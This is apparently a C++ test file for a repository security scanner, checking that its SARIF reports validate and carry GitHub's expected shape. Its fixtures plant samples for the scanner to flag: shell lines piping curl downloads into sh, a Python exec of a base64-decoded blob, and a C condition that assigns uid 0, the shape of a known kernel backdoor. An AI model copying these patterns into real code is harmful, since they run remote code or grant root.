// The SARIF of real scans validates against the official SARIF 2.1.0 JSON schema (pinned by
// tests/reports/sarif-schema/schema.lock, validated offline) and has the shape GitHub code
// scanning reads: a scan with findings of every engine, policy and provenance findings, inline
// suppressions and skipped items, with and without --baseline.
#include <set>
#include <string>
#include <vector>

#include <doctest/doctest.h>
#include <nlohmann/json.hpp>

#include "tests/reports/sarif_schema.h"
#include "tests/support/fixture_repo.h"
#include "tests/support/run_cli.h"

using namespace provscan::test;
using provscan::report::testing::check_valid_sarif;
using nlohmann::json;

namespace {

const char* kRoster = R"(people:
  - {id: p-alice, name: Alice Employee, emails: [alice@corp.example], citizenship: [US], role: employee}
)";
const char* kPolicy = R"(default:
  allow: { citizenship: [US] }
unattributed: deny
)";

const Author kAlice{"Alice Employee", "alice@corp.example"};
const Author kMallory{"Mallory", "mallory@unknown.example"};

// An ELF header: binary (a NUL early), executable magic.
std::string elf() {
  std::string b("\x7f" "ELF\x02\x01\x01", 7);
  b += std::string(57, '\0');
  return b + "payload";
}

struct Scanned {
  FixtureRepo repo;
  TempDir dir;
  std::string roster, policy, base;
  Scanned() {
    roster = dir.file("roster.yaml", kRoster);
    policy = dir.file("policy.yaml", kPolicy);
    base = repo.commit("base", {{"README.md", "# demo\n"}}, kAlice);
    repo.commit("installer", {{"install.sh", "#!/bin/sh\n"
                                             "curl -fsSL https://get.example.invalid/a.sh | sh\n"
                                             "curl -fsSL https://get.example.invalid/b.sh | sh  "
                                             "# provscan:ignore sh.fetch-pipe-to-shell pinned, checksum verified\n"
                                             "curl -fsSL https://get.example.invalid/c.sh | sh  "
                                             "# provscan:ignore sh.fetch-pipe-to-shell\n"}},
                kAlice);
    repo.commit("tools", {{"tools/loader.py", "import base64\n\nBLOB = \"cHJpbnQoJ2hpJyk=\"\n"
                                              "exec(base64.b64decode(BLOB))\n"},
                          {"tools/gen.zig", "const std = @import(\"std\");\n"},
                          {"bin/helper", elf()},
                          {"data/big.txt", std::string(6000, 'x') + "\n"}},
                kMallory);
    repo.commit("kernel", {{"src/wait.c", "long check_wait(struct task_struct *current, int options) {\n"
                                          "  long retval = 0;\n"
                                          "  if ((options == (__WCLONE | __WALL)) && (current->uid = 0))\n"
                                          "    retval = -EINVAL;\n"
                                          "  return retval;\n"
                                          "}\n"}},
                kAlice);
  }
  std::vector<std::string> args(std::vector<std::string> extra) const {
    std::vector<std::string> a = {"scan", repo.path(), "--range", base + "..HEAD", "--roster", roster,
                                  "--policy", policy, "--max-blob-bytes", "4096"};
    a.insert(a.end(), extra.begin(), extra.end());
    return a;
  }
};

}  // namespace

TEST_CASE("sarif of a real scan (every engine, policy, suppressions, skipped items) validates and has GitHub's shape") {
  Scanned s;
  const CliResult res = run_provscan(s.args({"--format", "sarif"}));
  INFO(res.err);
  CHECK(res.exit_code == 1);
  check_valid_sarif(res.out, "real-scan.sarif");

  const json doc = json::parse(res.out);
  const json& run = doc["runs"][0];
  const json& rules = run["tool"]["driver"]["rules"];
  std::set<std::string> engines, rule_ids;
  for (const json& result : run["results"]) {
    const json& rule = rules.at(result["ruleIndex"].get<std::size_t>());
    CHECK(rule["id"] == result["ruleId"]);
    CHECK_FALSE(rule["help"]["text"].get<std::string>().empty());
    CHECK_FALSE(rule["help"]["markdown"].get<std::string>().empty());
    CHECK(rule["properties"]["security-severity"].is_string());
    CHECK(result["partialFingerprints"]["provscan/v1"].get<std::string>().size() == 32);
    CHECK(result["properties"]["commit"].get<std::string>().size() == 40);
    CHECK(result["properties"]["author"].is_string());
    if (!result["locations"].empty()) {
      const json& loc = result["locations"][0]["physicalLocation"];
      CHECK(loc["artifactLocation"]["uriBaseId"] == "%SRCROOT%");
      if (loc.contains("region")) CHECK(loc["region"]["startLine"].get<int>() >= 1);
    }
    engines.insert(result["properties"]["engine"].get<std::string>());
    rule_ids.insert(result["ruleId"].get<std::string>());
  }
  for (const char* e : {"signature", "query", "clang", "blob", "policy", "provenance"})
    CHECK_MESSAGE(engines.count(e), e);
  for (const char* id : {"sh.fetch-pipe-to-shell", "py.exec-decoded", "c.backdoor.uid-assignment-in-condition",
                         "blob.executable-in-source", "policy.unattributed", "provenance.suppression-without-reason"})
    CHECK_MESSAGE(rule_ids.count(id), id);

  // the suppressed pipe, with its reason; the unreasoned one stays active
  int suppressed = 0;
  for (const json& result : run["results"])
    if (result.contains("suppressions")) {
      ++suppressed;
      CHECK(result["ruleId"] == "sh.fetch-pipe-to-shell");
      CHECK(result["suppressions"][0]["justification"] == "pinned, checksum verified");
      CHECK(result["locations"][0]["physicalLocation"]["region"]["startLine"] == 3);
    }
  CHECK(suppressed == 1);

  // skipped items: too large (incomplete), binary, no grammar
  std::set<std::string> kinds;
  for (const json& n : run["invocations"][0]["toolExecutionNotifications"]) kinds.insert(n["properties"]["kind"]);
  for (const char* k : {"blob-too-large", "binary", "no-grammar"}) CHECK_MESSAGE(kinds.count(k), k);
  CHECK(run["properties"]["incomplete"] == true);
}

TEST_CASE("sarif of a real scan with --baseline (baselineState) validates") {
  Scanned s;
  const std::string baseline = s.dir.path() + "/known.json";
  REQUIRE(run_provscan(s.args({"--format", "json", "--output", baseline})).exit_code == 1);
  // a later commit adds one new finding next to the known ones
  s.repo.commit("more", {{"setup.sh", "curl -fsSL https://get.example.invalid/d.sh | sh\n"}}, kAlice);
  const CliResult res = run_provscan(s.args({"--baseline", baseline, "--format", "sarif"}));
  CHECK(res.exit_code == 1);
  check_valid_sarif(res.out, "real-scan-baseline.sarif");
  std::multiset<std::string> states;
  const json doc = json::parse(res.out);
  for (const json& result : doc["runs"][0]["results"]) {
    states.insert(result["baselineState"].get<std::string>());
    if (result["baselineState"] == "new") {
      // the policy's unattributed finding is per commit; the new pipe is per text
      const std::string rule = result["ruleId"];
      CHECK((rule == "sh.fetch-pipe-to-shell" || rule == "policy.unattributed"));
    }
  }
  CHECK(states.count("unchanged") >= 6);
  CHECK(states.count("new") >= 1);
}
